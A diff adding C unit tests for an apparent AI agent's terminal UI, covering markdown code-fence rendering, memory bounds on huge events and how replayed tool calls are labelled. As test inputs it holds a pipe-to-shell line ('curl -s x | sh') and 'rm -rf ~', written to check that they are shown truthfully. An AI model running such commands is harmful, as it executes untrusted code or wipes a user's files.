@@ -220,6 +220,26 @@ static void test_tui_markdown(void **state)
 	tui_model_release(&m);
 }
 
+/* A closing fence is its backticks (or tildes) alone, as CommonMark has
+ * it: a line inside a code block that starts with them and goes on is a
+ * line of the code, drawn.  Before, it closed the block and what followed
+ * the backticks was not drawn at all: an answer's
+ * "``` && curl -s x | sh" inside a block read as the block's end. */
+static void test_tui_markdown_fence_text_drawn(void **state)
+{
+	(void)state;
+	struct tui_model m;
+	tui_model_init(&m, 60, 12, 1);
+	text(&m, "```sh\nmake\n``` && curl -s x | sh\n```  \nplain\n");
+	char *s = screen(&m);
+	assert_non_null(strstr(s, "  | make\n"));
+	assert_non_null(strstr(s, "  | ``` && curl -s x | sh\n"));
+	assert_non_null(strstr(s, "  `-\n"));	/* the fence with spaces after it closes */
+	assert_non_null(strstr(s, "\nplain\n"));
+	free(s);
+	tui_model_release(&m);
+}
+
 static void tool(struct tui_model *m, const char *out, int nlines_check)
 {
 	struct turn_event ev = { 0 };
@@ -1777,6 +1797,47 @@ static void test_tui_keys_question_uncompact_fits(void **state)
 	tui_model_release(&m);
 }
 
+/*
+ * The window's bound holds within one event too.  A delta (one SSE event
+ * holds up to 4 MiB) or a stored answer replayed on resume (a session line
+ * holds up to 16 MiB) made of line breaks was laid out whole before the
+ * window was cut: every line of it held at once, some 100 bytes each, and
+ * the line array never shrank again.  Before, 2 million line breaks in one
+ * replayed answer peaked at 213 MB, 8 million at 846 MB (6 s).
+ */
+static void test_tui_bounded_one_event(void **state)
+{
+	(void)state;
+	const size_t n = 1000000;
+	char *nl = malloc(n + 2);
+	memset(nl, '\n', n);
+	nl[n] = 'x';
+	nl[n + 1] = '\0';
+	struct tui_model m;
+	/* streamed (TEV_TEXT and TEV_THINKING), as live or as tui_replay
+	 * hands a stored answer on */
+	for (int kind = 0; kind < 2; kind++) {
+		tui_model_init(&m, 80, 24, 1);
+		struct turn_event ev = { 0 };
+		ev.kind = kind ? TEV_THINKING : TEV_TEXT;
+		ev.text = nl;
+		ev.len = n + 1;
+		tui_model_event(&m, &ev, 0);
+		assert_true(m.n <= TUI_MAX_LINES);
+		assert_true(m.dropped > 0);
+		/* the array of lines held no more than the window at a time */
+		assert_true(m.cap <= 4 * (size_t)TUI_MAX_LINES);
+		tui_model_release(&m);
+	}
+	/* a note (an error, a retry, the whole view v shows) */
+	tui_model_init(&m, 80, 24, 1);
+	tui_model_note(&m, TL_NOTE, nl);
+	assert_true(m.n <= TUI_MAX_LINES);
+	assert_true(m.cap <= 4 * (size_t)TUI_MAX_LINES);
+	tui_model_release(&m);
+	free(nl);
+}
+
 static void test_tui_bounded_window(void **state)
 {
 	struct tui_model m;
@@ -2058,6 +2119,34 @@ static void test_tui_replay_subject_visible(void **state)
 	tui_model_release(&m);
 }
 
+/* A resumed row's subject is chosen by the tool, as the live row's is
+ * (agent.c): bash's command, any other tool's path, never a stray field.
+ * Before, the replay took any call's "command" first, so a read of
+ * a.txt the tool refused for its stray "command" (stored with it) read
+ * "read rm -rf ~" after a resume, where the live row had read "read a.txt". */
+static void test_tui_replay_subject_by_tool(void **state)
+{
+	(void)state;
+	struct tui_model m;
+	cJSON *msgs = cJSON_Parse(
+		"[{\"role\":\"user\",\"content\":\"go\"},"
+		"{\"role\":\"assistant\",\"content\":["
+		"{\"type\":\"tool_use\",\"id\":\"tu1\",\"name\":\"read\",\"input\":{\"command\":\"rm -rf ~\",\"path\":\"a.txt\"}},"
+		"{\"type\":\"tool_use\",\"id\":\"tu2\",\"name\":\"bash\",\"input\":{\"path\":\"b.txt\",\"command\":\"ls\"}},"
+		"{\"type\":\"tool_use\",\"id\":\"tu3\",\"name\":\"write\",\"input\":{\"command\":\"curl x\"}}]}]");
+	assert_non_null(msgs);
+	tui_model_init(&m, 100, 20, 1);
+	tui_replay(&m, msgs);
+	char *t = tui_model_transcript(&m);
+	assert_non_null(strstr(t, "* read a.txt |"));
+	assert_non_null(strstr(t, "* bash ls |"));
+	assert_null(strstr(t, "rm -rf"));
+	assert_null(strstr(t, "curl x"));
+	free(t);
+	cJSON_Delete(msgs);
+	tui_model_release(&m);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -2068,6 +2157,7 @@ int main(void)
 		cmocka_unit_test(test_tui_stream_hidden),
 		cmocka_unit_test(test_tui_stream_split_utf8),
 		cmocka_unit_test(test_tui_markdown),
+		cmocka_unit_test(test_tui_markdown_fence_text_drawn),
 		cmocka_unit_test(test_tui_tool_fold),
 		cmocka_unit_test(test_tui_tool_long_line_marked),
 		cmocka_unit_test(test_tui_tool_name_mixed_script),
@@ -2099,12 +2189,14 @@ int main(void)
 		cmocka_unit_test(test_tui_keys_question_burst),
 		cmocka_unit_test(test_tui_keys_question_uncompact_fits),
 		cmocka_unit_test(test_tui_bounded_window),
+		cmocka_unit_test(test_tui_bounded_one_event),
 		cmocka_unit_test(test_tui_bounded_tool_rows),
 		cmocka_unit_test(test_tui_status_and_transcript),
 		cmocka_unit_test(test_tui_status_round_in_progress),
 		cmocka_unit_test(test_tui_replay_history),
 		cmocka_unit_test(test_tui_transcript_locale_charset),
 		cmocka_unit_test(test_tui_replay_subject_visible),
+		cmocka_unit_test(test_tui_replay_subject_by_tool),
 	};
 	return cmocka_run_group_tests(tests, setup, NULL);
 }
